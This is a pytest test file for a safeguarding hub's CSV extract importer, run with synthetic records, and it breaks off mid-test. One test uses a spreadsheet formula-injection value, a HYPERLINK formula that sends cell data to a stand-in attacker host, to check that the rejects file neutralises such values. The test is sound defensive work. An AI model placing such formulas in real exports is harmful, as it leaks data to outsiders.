"""Tests of the exchange-format import (src/safeguarding/exchange/importer.py) and its commands."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import textwrap
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone
from pytest_django.fixtures import Settings

from safeguarding.accounts.models import Agency, AgencyKind
from safeguarding.audit.models import AuditEvent, AuditEventType
from safeguarding.core.errors import ServiceError
from safeguarding.exchange import importer, read, upsert
from safeguarding.exchange.importer import ImportResult, import_extract
from safeguarding.exchange.models import ImportIssue, ImportRun, ImportStatus, IssueSeverity
from safeguarding.people.models import Event, Person, Relationship, SourceRecord, SourceSystem

# The shared example beside the project (../shared), found from a git worktree of it too.
EXAMPLE = next(
    (found for folder in Path(__file__).resolve().parents if (found := folder / "shared" / "exchange" / "example").is_dir()),
    Path(__file__).resolve().parents[3] / "shared" / "exchange" / "example",
)
UTC = dt.UTC

PEOPLE_HEADER = (
    "source_system,record_id,given_name,middle_names,family_name,other_names,date_of_birth,sex,nhs_number,upn,"
    "pnc_id,address,postcode,phone,email,role,updated_at"
)
EVENTS_HEADER = (
    "source_system,event_id,record_id,event_type,occurred_at,ended_at,location_name,location_postcode,"
    "vehicle_registration,phone,other_record_ids,detail"
)


@pytest.fixture
def systems(db: None) -> dict[str, SourceSystem]:
    """The four source systems of the shared example, each mapped to its agency."""
    made = {}
    for code, agency_code, kind in (
        ("council-social-care", "eastwood-council", AgencyKind.COUNCIL),
        ("police-records", "police", AgencyKind.POLICE),
        ("nhs-community", "nhs", AgencyKind.HEALTH),
        ("school-sims", "schools", AgencyKind.EDUCATION),
    ):
        agency = Agency.objects.create(code=agency_code, name=agency_code.title(), kind=kind)
        made[code] = SourceSystem.objects.create(code=code, name=code, agency=agency)
    return made


@pytest.fixture(autouse=True)
def data_dir(settings: Settings, tmp_path: Path) -> Path:
    """Rejects files go to a scratch data folder, not the project's."""
    settings.DATA_DIR = tmp_path / "data"
    return settings.DATA_DIR


def write_extract(folder: Path, files: dict[str, str], *, bom: bool = False) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        data = textwrap.dedent(text).lstrip("\n").encode()
        (folder / name).write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)
    return folder


def people_row(record_id: str, **values: str) -> str:
    """A people.csv row for police-records in the standard column order."""
    row = {"source_system": "police-records", "record_id": record_id, **values}
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([row.get(c, "") for c in PEOPLE_HEADER.split(",")])
    return out.getvalue()


def people_file(*rows: str) -> str:
    return PEOPLE_HEADER + "\n" + "".join(rows)


def issues_at(result: ImportResult, file: str) -> dict[int, list[importer.Issue]]:
    found: dict[int, list[importer.Issue]] = {}
    for issue in result.issues:
        if issue.file == file:
            found.setdefault(issue.line, []).append(issue)
    return found


def table_sizes() -> tuple[int, int, int, int]:
    return Person.objects.count(), SourceRecord.objects.count(), Event.objects.count(), Relationship.objects.count()


@pytest.fixture
def example(tmp_path: Path) -> Path:
    if not EXAMPLE.is_dir():
        pytest.skip(f"the shared example extract is not at {EXAMPLE}")
    return Path(shutil.copytree(EXAMPLE, tmp_path / "example"))


# --- The shared example --------------------------------------------------------------------------


@pytest.mark.django_db
def test_example_rejects_the_two_bad_events_with_line_and_reason(systems: dict, example: Path) -> None:
    result = import_extract(example)

    events = issues_at(result, "events.csv")
    assert set(events) == {7, 8}
    (bad_system,) = events[7]
    assert bad_system.severity == IssueSeverity.REJECTED
    assert "unknown source_system 'bad-system'" in bad_system.reason
    (bad_type,) = events[8]
    assert bad_type.severity == IssueSeverity.REJECTED
    assert "unknown event_type 'ran_away'" in bad_type.reason
    assert result.counts["events.csv"].rejected == 2
    assert result.counts["events.csv"].created == 5
    assert not Event.objects.filter(event_id__in=["EV-X", "EV-3"]).exists()


@pytest.mark.django_db
def test_example_impossible_date_of_birth_is_a_warning_and_the_row_is_kept(systems: dict, example: Path) -> None:
    result = import_extract(example)

    (warning,) = issues_at(result, "people.csv")[4]
    assert warning.severity == IssueSeverity.WARNING
    assert warning.column == "date_of_birth"
    assert "2010-03-41" in warning.reason
    record = SourceRecord.objects.get(record_id="SIMS-5521")
    assert record.date_of_birth == ""
    assert record.raw["date_of_birth"] == "2010-03-41"  # what the school sent is not lost
    assert record.upn == "A123456789012"
    assert record.person.family_name == "Barker"


@pytest.mark.django_db
def test_example_imports_every_other_row_normalised(systems: dict, example: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    # Imported as of this writing: from 14 March 2028 the example's Chloe (born 14 March 2010, role
    # child, no updated_at) is 18, and her role is rightly warned about.
    from safeguarding.exchange import format as exchange_format

    monkeypatch.setattr(exchange_format, "import_now", lambda: dt.datetime(2026, 12, 6, tzinfo=UTC))
    result = import_extract(example)

    assert result.run.status == ImportStatus.COMPLETED
    assert result.issue_count == 3
    assert table_sizes() == (6, 6, 5, 1)
    chloe = SourceRecord.objects.get(record_id="LCS-104233")
    assert chloe.source_system.agency.code == "eastwood-council"
    assert (chloe.nhs_number, chloe.nhs_number_valid) == ("9434765919", True)
    assert chloe.phones == "+447700900123"
    assert chloe.address == "14 Fern Road, Eastwood"
    assert chloe.updated_at == dt.datetime(2025, 1, 10, 9, 0, tzinfo=UTC)  # January: GMT
    assert (chloe.person.given_name, chloe.person.nhs_number, chloe.person.role) == ("Chloe", "9434765919", "child")
    assert SourceRecord.objects.get(record_id="NICHE-77812").postcode == "S65 1AB"
    mo = SourceRecord.objects.get(record_id="NICHE-90011")
    assert (mo.other_names, mo.date_of_birth, mo.pnc_id) == ("Mo;Moz", "1988", "01/123456X")
    seen = Event.objects.get(event_id="EV-2")
    assert (seen.vehicle_registration, seen.location_postcode, seen.other_record_ids) == ("YA19ABC", "S60 1QY", "NICHE-90011")
    assert seen.source_record.record_id == "NICHE-77812"
    absence = Event.objects.get(event_id="ABS-88")
    assert absence.occurred_date_only is True
    assert absence.occurred_at == dt.datetime(2025, 1, 13, 0, 0, tzinfo=UTC)
    assert absence.ended_at == dt.datetime(2025, 1, 17, 0, 0, tzinfo=UTC)
    link = Relationship.objects.get()
    assert (link.from_record.record_id, link.to_record.record_id, link.relationship) == (
        "NICHE-77812", "NICHE-90011", "suspected_perpetrator",
    )
    assert link.start_date == dt.date(2024, 12, 1)
    assert ImportIssue.objects.filter(run=result.run).count() == 3


@pytest.mark.django_db
def test_importing_the_same_extract_twice_changes_nothing(systems: dict, example: Path) -> None:
    import_extract(example)
    sizes = table_sizes()
    changed_at = dict(SourceRecord.objects.values_list("record_id", "changed_at"))

    again = import_extract(example)

    assert table_sizes() == sizes
    for counts in again.counts.values():
        assert counts.created == 0
        assert counts.updated == 0
    assert again.counts["people.csv"].unchanged == 6
    assert again.counts["events.csv"].unchanged == 5
    assert again.counts["relationships.csv"].unchanged == 1
    assert dict(SourceRecord.objects.values_list("record_id", "changed_at")) == changed_at


@pytest.mark.django_db
def test_the_import_is_audited_once_in_its_own_transaction(systems: dict, example: Path) -> None:
    result = import_extract(example, initiated_by="nightly job")

    (event,) = AuditEvent.objects.filter(event_type=AuditEventType.EXTRACT_IMPORTED)
    assert event.target_kind == "import_run"
    assert event.target_id == str(result.run.pk)
    assert event.actor_label == "nightly job"
    assert event.detail["counts"]["events.csv"]["rejected"] == 2
    assert result.run.initiated_by == "nightly job"


@pytest.mark.django_db
def test_rejects_file_holds_each_issue_with_the_row_as_sent(systems: dict, example: Path, data_dir: Path) -> None:
    result = import_extract(example)

    assert result.rejects_path == data_dir / "imports" / f"run-{result.run.pk}-issues.csv"
    with result.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["file"], r["line"], r["severity"]) for r in rows] == [
        ("people.csv", "4", "warning"), ("events.csv", "7", "rejected"), ("events.csv", "8", "rejected"),
    ]
    assert rows[1]["source_system"] == "bad-system"
    assert rows[2]["event_type"] == "ran_away"
    assert rows[2]["detail"] == "unknown event type: must be rejected"


@pytest.mark.django_db
def test_rejects_file_writes_a_value_a_spreadsheet_would_run_as_text(systems: dict, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", given_name=hostile, sex="?"), people_row("P2", source_system="@SUM(1,1)"),
    )})

    result = import_extract(extract)

    assert result.rejects_path is not None
    with result.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["line"], r["given_name"], r["source_system"]) for r in rows] == [
        ("2", "'" + hostile, "police-records"), ("3", "", "'@SUM(1,1)"),
    ]
    assert rows[1]["reason"].startswith("unknown source_system")
    assert SourceRecord.objects.get().given_name == hostile  # what the hub holds is what was sent


# --- Later extracts ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_later_extract_updates_the_record_and_its_person(systems: dict, tmp_path: Path) -> None:
    first = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", given_name="Chloe", family_name="Barker", postcode="S65 1AB", updated_at="2025-01-10T09:00:00"),
    )})
    later = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", given_name="Chloe", family_name="Barker-Smith", postcode="S60 2XX",
                   updated_at="2025-02-10T09:00:00"),
    )})
    import_extract(first)

    result = import_extract(later)

    assert result.counts["people.csv"].updated == 1
    record = SourceRecord.objects.get(record_id="P1")
    assert (record.family_name, record.postcode) == ("Barker-Smith", "S60 2XX")
    assert (record.person.family_name, record.person.postcode) == ("Barker-Smith", "S60 2XX")
    assert Person.objects.count() == 1


@pytest.mark.django_db
def test_an_agency_s_first_extract_beside_one_already_held_creates_the_new_and_updates_the_held(
    systems: dict, tmp_path: Path
) -> None:
    first = write_extract(tmp_path / "a", {
        "people.csv": people_file(people_row("P1", given_name="Chloe", family_name="Barker")),
        "events.csv": EVENTS_HEADER + "\npolice-records,E1,P1,missing_episode,2026-01-05,,,,,,,\n",
    })
    # The school's first rows share the police's ids: a system new to the table is not looked up,
    # and its rows must not be taken for the police's.
    later = write_extract(tmp_path / "b", {
        "people.csv": people_file(people_row("P1", given_name="Chloe", family_name="Barker-Smith"))
        + "school-sims,P1,Chloe,,Barker,,,,,,,,,,,child,\n",
        "events.csv": EVENTS_HEADER + "\npolice-records,E1,P1,missing_episode,2026-01-06,,,,,,,\n"
        "school-sims,E1,P1,absent_from_school,2026-01-07,,,,,,,\n",
    })
    import_extract(first)

    result = import_extract(later)

    assert (result.counts["people.csv"].updated, result.counts["people.csv"].created) == (1, 1)
    assert (result.counts["events.csv"].updated, result.counts["events.csv"].created) == (1, 1)
    police = SourceRecord.objects.get(source_system__code="police-records")
    assert police.family_name == "Barker-Smith"
    assert SourceRecord.objects.get(source_system__code="school-sims").family_name == "Barker"
    assert Event.objects.get(source_system__code="police-records").occurred_at.day == 6
    assert Event.objects.get(source_system__code="school-sims").source_record.source_system.code == "school-sims"


@pytest.mark.django_db
def test_an_older_extract_does_not_overwrite_newer_values(systems: dict, tmp_path: Path) -> None:
    newer = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", family_name="Barker-Smith", updated_at="2025-02-10T09:00:00"),
    )})
    older = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", family_name="Barker", phone="07700 900123", updated_at="2025-01-10T09:00:00"),
    )})
    import_extract(newer)

    result = import_extract(older)

    counts = result.counts["people.csv"]
    assert (counts.updated, counts.unchanged, counts.older) == (0, 1, 1)
    record = SourceRecord.objects.get(record_id="P1")
    assert (record.family_name, record.phones) == ("Barker-Smith", "")
    assert record.updated_at == dt.datetime(2025, 2, 10, 9, 0, tzinfo=UTC)
    # Listed with its line, as every row the import did not take is.
    (issue,) = issues_at(result, "people.csv")[2]
    assert (issue.severity, issue.column) == (IssueSeverity.WARNING, "updated_at")
    assert issue.reason == "updated_at is older than the hub's copy of this record (2025-02-10 09:00): the row changed nothing"


@pytest.mark.django_db
def test_a_row_of_no_known_age_fills_what_a_dated_record_lacks_and_overwrites_nothing(
    systems: dict, tmp_path: Path
) -> None:
    dated = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", given_name="Chloe", family_name="Barker", updated_at="2025-01-10T09:00:00"),
    )})
    undated = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", given_name="NoStamp", family_name="Barker", phone="07700 900123", nhs_number="943 476 5919"),
    )})
    import_extract(dated)

    result = import_extract(undated)

    record = SourceRecord.objects.get(record_id="P1")
    assert (record.given_name, record.family_name, record.phones) == ("Chloe", "Barker", "+447700900123")
    assert record.updated_at == dt.datetime(2025, 1, 10, 9, 0, tzinfo=UTC)
    # A value filled comes with its check and keys; a value kept keeps its cell as sent.
    assert (record.nhs_number, record.nhs_number_valid) == ("9434765919", True)
    assert record.raw["given_name"] == "Chloe" and record.raw["nhs_number"] == "943 476 5919"
    (issue,) = issues_at(result, "people.csv")[2]
    assert issue.severity == IssueSeverity.WARNING
    assert "updated_at is empty and the hub's copy of this record is dated 2025-01-10 09:00" in issue.reason
    assert issue.reason.endswith(": its given_name kept, the row only filled what was unknown")


@pytest.mark.django_db
def test_an_empty_cell_never_erases_a_known_value(systems: dict, tmp_path: Path) -> None:
    full = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", given_name="Chloe", family_name="Barker", date_of_birth="2010-03-14", phone="07700900123",
                   postcode="S65 1AB", nhs_number="9434765919"),
    )})
    sparse = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", given_name="Chloe", family_name="", date_of_birth="2010-13-01", address="14 Fern Road"),
    )})
    import_extract(full)

    result = import_extract(sparse)

    assert result.counts["people.csv"].updated == 1  # the new address
    record = SourceRecord.objects.get(record_id="P1")
    assert (record.family_name, record.date_of_birth, record.phones, record.postcode, record.nhs_number) == (
        "Barker", "2010-03-14", "+447700900123", "S65 1AB", "9434765919",
    )
    assert record.address == "14 Fern Road"
    assert record.raw["family_name"] == "Barker"  # the earlier value sent is kept in raw too
    assert record.person.family_name == "Barker"


@pytest.mark.django_db
def test_a_repeated_event_with_changed_values_is_updated(systems: dict, example: Path) -> None:
    import_extract(example)
    events = (example / "events.csv").read_text().replace("Taxi rank Station Road", "Hotel, High Street")
    (example / "events.csv").write_text(events.replace("Hotel, High Street", '"Hotel, High Street"'))

    result = import_extract(example)

    assert (result.counts["events.csv"].updated, result.counts["events.csv"].unchanged) == (1, 4)
    assert Event.objects.get(event_id="EV-2").location_name == "Hotel, High Street"
    assert Event.objects.count() == 5


# --- Format ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_zip_of_the_extract_folder(systems: dict, example: Path, tmp_path: Path) -> None:
    archive = tmp_path / "extract.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        for file in example.iterdir():
            zipped.write(file, f"extract-2025-01-20/{file.name}")

    result = import_extract(archive)

    assert table_sizes() == (6, 6, 5, 1)
    assert {i.line for i in result.issues if i.file == "events.csv"} == {7, 8}


@pytest.mark.django_db
def test_byte_order_mark_extra_columns_and_column_order(systems: dict, tmp_path: Path) -> None:
    extract = write_extract(tmp_path / "x", {
        "people.csv": """
            record_id,family_name,ethnicity,source_system,given_name
            P1,Barker,White British,police-records,Chloe
        """,
        "events.csv": """
            occurred_at,event_type,record_id,event_id,source_system,handling,officer
            2025-07-01T10:00:00,intelligence,P1,E1,police-records,p,PC 123
        """,
    }, bom=True)

    result = import_extract(extract)

    assert result.issue_count == 0
    record = SourceRecord.objects.get()
    assert (record.given_name, record.family_name) == ("Chloe", "Barker")
    assert record.raw["ethnicity"] == "White British"
    assert "\ufeffrecord_id" not in record.raw
    event = Event.objects.get()
    assert event.handling == "P"
    assert event.raw["officer"] == "PC 123"
    assert event.occurred_at == dt.datetime(2025, 7, 1, 9, 0, tzinfo=UTC)  # July: British Summer Time


@pytest.mark.django_db
def test_quoted_commas_and_line_breaks_keep_line_numbers_right(systems: dict, tmp_path: Path) -> None:
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", address="Flat 2,\n14 Fern Road,\nEastwood"),
        people_row("P2", sex="Q"),
        people_row("P3", given_name='Chloe "Clo"', address="1, High Street"),
        people_row("P4", postcode="not a postcode"),
    )})

    result = import_extract(extract)

    assert SourceRecord.objects.get(record_id="P1").address == "Flat 2, 14 Fern Road, Eastwood"  # one line, SPEC.md
    assert SourceRecord.objects.get(record_id="P3").given_name == 'Chloe "Clo"'
    warnings = issues_at(result, "people.csv")
    assert {line: [i.column for i in found] for line, found in warnings.items()} == {
        2: ["address"], 5: ["sex"], 7: ["postcode"]}
    assert result.counts["people.csv"].rows == 4


@pytest.mark.django_db
def test_invalid_optional_values_are_set_aside_with_warnings(systems: dict, tmp_path: Path) -> None:
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row(
            "P1", nhs_number="943 476 5918", phone="07700900123;12", email="a@example.org;nope", role="teenager",
            updated_at="yesterday", upn="12345", other_names=" Clo ; ;Chlo ",
        ), people_row("P2"), people_row("P3")),
        "events.csv": EVENTS_HEADER + "\n"
        "police-records,E1,P1,missing_episode,2025-01-10T22:00,2025-01-09,,S6O 1QY,??,123,P2 ;; P3,\n",
        "relationships.csv": """
            source_system,record_id,other_record_id,relationship,start_date,end_date
            police-records,P1,P1,associate,,
        """,
    })

    result = import_extract(extract)

    record = SourceRecord.objects.get(record_id="P1")
    assert (record.nhs_number, record.nhs_number_valid) == ("9434765918", False)
    assert record.person.nhs_number == ""  # a failed check digit is not shown as the person's number
    assert (record.phones, record.emails, record.role, record.updated_at, record.upn) == (
        "+447700900123", "a@example.org", "", None, "",
    )
    assert record.other_names == "Clo;Chlo"
    people_columns = sorted(i.column for i in result.issues if i.file == "people.csv")
    assert people_columns == ["email", "nhs_number", "phone", "role", "updated_at", "upn"]
    event = Event.objects.get()
    assert (event.ended_at, event.location_postcode, event.vehicle_registration, event.phone) == (None, "", "", "")
    assert event.other_record_ids == "P2;P3"
    event_columns = sorted(i.column for i in result.issues if i.file == "events.csv")
    assert event_columns == ["ended_at", "location_postcode", "phone", "vehicle_registration"]
    assert all(i.severity == IssueSeverity.WARNING for i in result.issues if i.file != "relationships.csv")
    (self_link,) = (i for i in result.issues if i.file == "relationships.csv")
    assert self_link.severity == IssueSeverity.REJECTED


@pytest.mark.django_db
def test_part_of_a_phone_number_is_set_aside_with_a_warning_and_the_whole_numbers_kept(
    systems: dict, tmp_path: Path
) -> None:
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("P1", phone="0770;07700 900123;07700;+33 1 23 45 67 89")),
        "events.csv": EVENTS_HEADER + "\n"
        "police-records,E1,P1,concern,2025-01-10,,,,,07700,,\n"
        "police-records,E2,P1,concern,2025-01-10,,,,,+44 7700 900124,,\n",
    })

    result = import_extract(extract)

    assert SourceRecord.objects.get().phones == "+447700900123;+33123456789"
    assert [(i.severity, i.column, i.reason) for i in issues_at(result, "people.csv")[2]] == [
        (IssueSeverity.WARNING, "phone", "phone '0770' is not a phone number; set aside"),
        (IssueSeverity.WARNING, "phone", "phone '07700' is not a phone number; set aside"),
    ]
    assert dict(Event.objects.values_list("event_id", "phone")) == {"E1": "", "E2": "+447700900124"}
    assert [(i.line, i.column, i.reason) for i in result.issues if i.file == "events.csv"] == [
        (2, "phone", "phone '07700' is not a phone number; set aside")]


@pytest.mark.django_db
def test_a_unique_pupil_number_with_a_wrong_check_letter_is_set_aside_with_a_warning(
    systems: dict, tmp_path: Path
) -> None:
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", upn="B123456789012"), people_row("P2", upn="b801 2000 05001"),
    )})

    result = import_extract(extract)

    assert dict(SourceRecord.objects.values_list("record_id", "upn")) == {"P1": "", "P2": "B801200005001"}
    assert [(i.line, i.severity, i.column, i.reason) for i in result.issues] == [
        (2, IssueSeverity.WARNING, "upn", "upn 'B123456789012' is not a unique pupil number (13 characters: a check "
                                          "letter, then 12 characters it agrees with); set aside"),
    ]


@pytest.mark.django_db
def test_an_address_on_several_lines_is_kept_on_one_with_a_warning(systems: dict, tmp_path: Path) -> None:
    # SPEC.md: an address is one line. Nothing of it is lost: each line break becomes ", ".
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", address="14 Fern Road,\r\nEastwood\r\n\r\nRotherham"),
        people_row("P2", address="2 Hill Street, Eastwood"),
    )})

    result = import_extract(extract)

    assert dict(SourceRecord.objects.values_list("record_id", "address")) == {
        "P1": "14 Fern Road, Eastwood, Rotherham", "P2": "2 Hill Street, Eastwood"}
    assert SourceRecord.objects.get(record_id="P1").raw["address"] == "14 Fern Road,\r\nEastwood\r\n\r\nRotherham"
    (warning,) = result.issues
    assert (warning.line, warning.severity, warning.column) == (2, IssueSeverity.WARNING, "address")
    assert warning.reason == ("address '14 Fern Road,\\r\\nEastwood\\r\\n\\r\\nRotherham' is on 4 lines, where the format "
                              "has one; kept as one line, each line break written as ', '")
    assert result.counts["people.csv"].created == 2


@pytest.mark.django_db
def test_a_child_whose_date_of_birth_makes_them_an_adult_is_kept_with_a_warning(systems: dict, tmp_path: Path) -> None:
    """role child is under 18 at extract time (SPEC.md), which is no earlier than the record's updated_at;
    without one, about when it is imported. Neither value is known to be the wrong one: both are kept."""
    today = timezone.localdate()
    eighteen_today = today.replace(year=today.year - 18) if (today.month, today.day) != (2, 29) else \
        dt.date(today.year - 18, 3, 1)
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", date_of_birth="1988", role="child"),
        people_row("P2", date_of_birth="2006-05", role="child", updated_at="2024-06-01T09:00:00"),
        people_row("P3", date_of_birth="2006-05", role="child", updated_at="2024-05-30T09:00:00"),
        people_row("P4", date_of_birth="1988", role="adult"),
        people_row("P5", date_of_birth=(eighteen_today + dt.timedelta(days=1)).isoformat(), role="child"),
        people_row("P6", date_of_birth=eighteen_today.isoformat(), role="child"),
    )})

    result = import_extract(extract)

    assert dict(SourceRecord.objects.values_list("record_id", "role")) == {f"P{n}": "adult" if n == 4 else "child"
                                                                          for n in range(1, 7)}
    assert SourceRecord.objects.get(record_id="P1").date_of_birth == "1988"
    warned = {line: [(i.severity, i.column, i.reason) for i in found] for line, found in issues_at(result, "people.csv").items()}
    assert warned == {
        2: [(IssueSeverity.WARNING, "role", "role 'child' disagrees with date_of_birth '1988': 18 by 31 December 2006, and "
                                            f"the row, with no updated_at, is imported on {today:%-d %B %Y}; both kept")],
        3: [(IssueSeverity.WARNING, "role", "role 'child' disagrees with date_of_birth '2006-05': 18 by 31 May 2024, and the "
                                            "record was last updated on 1 June 2024; both kept")],
        7: [(IssueSeverity.WARNING, "role", f"role 'child' disagrees with date_of_birth '{eighteen_today.isoformat()}': 18 "
                                            f"by {today:%-d %B %Y}, and the row, with no updated_at, is imported on "
                                            f"{today:%-d %B %Y}; both kept")],
    }


@pytest.mark.django_db
def test_an_adult_whose_date_of_birth_makes_them_a_child_is_read_as_a_child_with_a_warning(
    systems: dict, tmp_path: Path
) -> None:
    """A 16-year-old a police system holds as an adult (arrested, or named as a suspect) is a child the
    partnership must be able to screen, alert on and plan for: the record is read as a child's, the row
    as sent keeps "adult", and the import says so. Only a certain disagreement counts: a partial date of
    birth from the earliest day it allows."""
    today = timezone.localdate()
    eighteen_today = today.replace(year=today.year - 18) if (today.month, today.day) != (2, 29) else \
        dt.date(today.year - 18, 3, 1)
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        people_row("P1", date_of_birth="2012-03-04", role="adult"),
        people_row("P2", date_of_birth=f"{today.year - 17}-{today.month:02d}", role="adult"),
        # Under 18 when the record was last updated, and 18 by the time it is sent: an adult.
        people_row("P3", date_of_birth=f"{today.year - 19}-12-31", role="adult", updated_at=f"{today.year - 2}-01-01T09:00:00"),
        people_row("P4", date_of_birth=(eighteen_today + dt.timedelta(days=1)).isoformat(), role="adult"),
        people_row("P5", date_of_birth=eighteen_today.isoformat(), role="adult"),
        people_row("P6", date_of_birth=str(today.year - 18), role="adult"),
        people_row("P7", date_of_birth="2012-03-04"),
    )})

    result = import_extract(extract)

    assert dict(SourceRecord.objects.values_list("record_id", "role")) == {
        "P1": "child", "P2": "child", "P3": "adult", "P4": "child", "P5": "adult", "P6": "adult", "P7": ""}
    one = SourceRecord.objects.get(record_id="P1")
    assert (one.raw["role"], one.date_of_birth, one.person.role) == ("adult", "2012-03-04", "child")
    warned = {line: [(i.severity, i.column, i.reason) for i in found] for line, found in issues_at(result, "people.csv").items()}
    read = f"after this extract, imported on {today:%-d %B %Y}; read as a child's record (the row as sent, kept, says adult)"
    month = dt.date(today.year + 1, today.month, 1)
    assert warned == {
        2: [(IssueSeverity.WARNING, "role", f"role 'adult' disagrees with date_of_birth '2012-03-04': under 18 until "
                                            f"4 March 2030, {read}")],
        3: [(IssueSeverity.WARNING, "role", f"role 'adult' disagrees with date_of_birth '{today.year - 17}-{today.month:02d}': "
                                            f"under 18 until {month:%-d %B %Y}, {read}")],
        5: [(IssueSeverity.WARNING, "role", f"role 'adult' disagrees with date_of_birth "
                                            f"'{(eighteen_today + dt.timedelta(days=1)).isoformat()}': under 18 until "
                                            f"{today + dt.timedelta(days=1):%-d %B %Y}, {read}")],
    }
    assert import_extract(extract).counts["people.csv"].updated == 0  # the same extract again changes nothing


@pytest.mark.django_db
def test_others_present_the_hub_does_not_hold_are_set_aside_with_a_warning_and_those_it_holds_kept(
    systems: dict, tmp_path: Path
) -> None:
    """other_record_ids name records of the same system: held before, or in this extract's people.csv."""
    import_extract(write_extract(tmp_path / "before", {"people.csv": people_file(people_row("OLD"))}))
    header = EVENTS_HEADER + "\n"
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("P1"), people_row("P2")),
        "events.csv": header + "police-records,E1,P1,found_with_adult,2025-01-10,,,,,,P2;GHOST;OLD,\n"
        "police-records,E2,P1,found_with_adult,2025-01-10,,,,,,GHOST;PHANTOM,\n"
        "police-records,E3,P1,found_with_adult,2025-01-10,,,,,,NICHE-1,\n"
        "police-records,E4,P1,found_with_adult,2025-01-10,,,,,,P2,\n",
    })
    # A record of the same id in another system is not the one named.
    import_extract(write_extract(tmp_path / "other", {
        "people.csv": "source_system,record_id\ncouncil-social-care,NICHE-1\n"}))

    result = import_extract(extract)

    assert dict(Event.objects.values_list("event_id", "other_record_ids")) == {
        "E1": "P2;OLD", "E2": "", "E3": "", "E4": "P2"}
    not_held = "it is neither in this extract's people.csv nor imported before"
    assert [(i.line, i.severity, i.column, i.reason) for i in result.issues] == [
        (2, IssueSeverity.WARNING, "other_record_ids",
         f"the hub holds no police-records record 'GHOST': {not_held}; set aside from other_record_ids, the others kept"),
        (3, IssueSeverity.WARNING, "other_record_ids",
         f"the hub holds no police-records record 'GHOST' and 'PHANTOM': {not_held}; set aside from other_record_ids"),
        (4, IssueSeverity.WARNING, "other_record_ids",
         f"the hub holds no police-records record 'NICHE-1': {not_held}; set aside from other_record_ids"),
    ]
    assert Event.objects.get(event_id="E1").raw["other_record_ids"] == "P2;GHOST;OLD"  # as sent

    # A later extract naming only records the hub does not hold erases nothing it knew.
    again = write_extract(tmp_path / "again", {
        "events.csv": header + "police-records,E1,P1,found_with_adult,2025-01-10,,,,,,GHOST,\n"})
    import_extract(again)
    assert Event.objects.get(event_id="E1").other_record_ids == "P2;OLD"


@pytest.mark.django_db
def test_a_postcode_from_abroad_is_set_aside_with_a_warning_but_kept_for_record_linkage(
    systems: dict, tmp_path: Path
) -> None:
    first = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", family_name="Barker", postcode="4223", updated_at="2025-01-10T09:00:00"),
        people_row("P2", family_name="Hale", postcode="unknown"),
    )})
    later = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", family_name="Barker", postcode="s65 1ab", updated_at="2025-02-10T09:00:00"),
    )})

    result = import_extract(first)

    abroad, unknown = SourceRecord.objects.order_by("record_id")
    assert (abroad.postcode, abroad.postcode_other, abroad.person.postcode) == ("", "4223", "")
    assert (unknown.postcode, unknown.postcode_other) == ("", "")
    warnings = issues_at(result, "people.csv")
    assert [(i.severity, i.column) for i in warnings[2]] == [(IssueSeverity.WARNING, "postcode")]
    assert "'4223' is not a UK postcode" in warnings[2][0].reason
    assert "kept as 4223 for record linkage only" in warnings[2][0].reason
    assert "not a UK postcode; set aside" in warnings[3][0].reason
    assert "record linkage" not in warnings[3][0].reason
    assert ImportIssue.objects.filter(column="postcode").count() == 2

    import_extract(later)

    abroad.refresh_from_db()
    assert (abroad.postcode, abroad.postcode_other) == ("S65 1AB", "")  # the UK postcode supersedes it


@pytest.mark.django_db
def test_names_are_kept_as_find_a_person_looks_them_up_and_follow_a_later_extract(
    systems: dict, tmp_path: Path
) -> None:
    first = write_extract(tmp_path / "a", {"people.csv": people_file(
        people_row("P1", given_name="Muhammad", family_name="Lawson-Smith", other_names="Mo;Smith",
                   updated_at="2025-01-10T09:00:00"),
    )})
    later = write_extract(tmp_path / "b", {"people.csv": people_file(
        people_row("P1", given_name="Mohammed", family_name="Lawson-Smith", updated_at="2025-02-10T09:00:00"),
    )})

    import_extract(first)

    record = SourceRecord.objects.get()
    assert (record.given_key, record.given_sound) == ("muhammad", "MHMT")
    assert (record.family_key, record.family_sound, record.family_last) == ("lawsonsmith", "LSNSM0", "smith")
    assert record.other_keys == " mo smith #SM0 "  # "mo" is too short to carry a sound

    import_extract(later)

    record.refresh_from_db()
    assert (record.given_key, record.given_sound) == ("mohammed", "MHMT")
    assert record.other_keys == " mo smith #SM0 "  # an empty cell erases nothing, its keys included


# --- Rejections ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_event_for_a_record_the_hub_does_not_hold_is_rejected(systems: dict, example: Path) -> None:
    (example / "events.csv").write_text(
